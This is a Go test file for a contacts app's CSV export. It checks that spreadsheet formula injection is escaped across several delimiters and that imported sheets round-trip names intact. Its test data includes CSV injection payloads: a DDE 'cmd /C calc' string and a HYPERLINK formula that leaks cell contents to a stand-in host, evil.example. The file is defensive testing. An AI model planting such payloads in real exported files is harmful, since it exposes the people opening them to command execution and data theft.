package app

import (
	"encoding/csv"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// formulas begin as spreadsheets' formulas do, or go on so behind a sign at which some
// spreadsheet parts cells.
var formulas = []string{
	"=1+1", "+7 900", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "＝1", "a;=1+1", "a,=cmd|' /C calc'!A0", "a\t=1", "a|=1",
	"=HYPERLINK(\"http://evil.example/?\"&A1)",
}

func TestSheet(t *testing.T) {
	for _, lang := range []string{"ru", "en"} {
		for _, text := range formulas {
			var out strings.Builder
			s := newSheet(&out, lang)
			s.line(text, "2")
			if err := s.flush(); err != nil {
				t.Fatal(err)
			}
			for _, comma := range ",;\t|" { // whatever the reader parts cells at
				r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF")))
				r.Comma, r.FieldsPerRecord, r.LazyQuotes = comma, -1, true
				records, err := r.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				for _, record := range records {
					for _, cell := range record {
						if isFormula(cell) {
							t.Errorf("%s, %q: %q is a formula where cells are parted at %q", lang, text, cell, comma)
						}
					}
				}
			}
		}
	}
	t.Run("a sheet that is imported gives back what was there", func(t *testing.T) {
		for _, lang := range []string{"ru", "en"} {
			for _, text := range append(formulas, "О'Нил", "'tis", "plain", "'") {
				if strings.TrimSpace(text) != text {
					continue // no contact has such a name
				}
				var out strings.Builder
				s := newSheet(&out, lang)
				s.line("e-mail", "имя", "комментарий")
				s.line("+tag@example.org", text, text)
				if err := s.flush(); err != nil {
					t.Fatal(err)
				}
				file, err := openCSV(strings.NewReader(out.String()))
				if err != nil {
					t.Fatal(err)
				}
				header, _ := file.next()
				names, _, err := columnsOf(header.cells)
				if err != nil {
					t.Fatal(err)
				}
				line, err := file.next()
				if err != nil {
					t.Fatal(err)
				}
				if c := names.contact(line.cells); c.Email != "+tag@example.org" || c.FirstName != text || c.Comment != text {
					t.Errorf("%s: %q came back as %+v", lang, text, c)
				}
			}
		}
	})
	t.Run("asTyped undoes noFormula", func(t *testing.T) {
		rapid.Check(t, func(t *rapid.T) {
			text := rapid.StringMatching(`['=+@ a-]{0,6}`).Draw(t, "text")
			if safe := noFormula(text); isFormula(safe) || asTyped(safe) != text {
				t.Fatalf("%q became %q, and that %q", text, safe, asTyped(safe))
			}
		})
	})
}
